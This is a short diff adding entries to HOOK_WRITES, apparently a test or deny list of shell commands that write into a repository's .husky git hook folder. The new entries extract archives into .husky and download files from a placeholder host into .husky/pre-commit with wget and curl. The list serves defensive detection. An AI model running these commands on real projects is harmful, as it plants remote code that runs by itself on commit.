@@ -184,6 +184,14 @@ HOOK_WRITES = (
     "git show HEAD:x > .husky/pre-commit",
     "git --work-tree=.husky checkout HEAD -- .",
     "git diff --output=.husky/pre-push",
+    # a folder an unpacker or a downloader fills
+    "tar xf a.tar -C .husky",
+    "tar -C.husky -xf a.tar",
+    "unzip -o a.zip -d .husky",
+    "7z x a.7z -o.husky",
+    "wget -P .husky https://h/pre-commit",
+    "curl --output-dir .husky -O https://h/pre-commit",
+    "curl -o .husky/pre-commit https://h/x",
 )
 
 
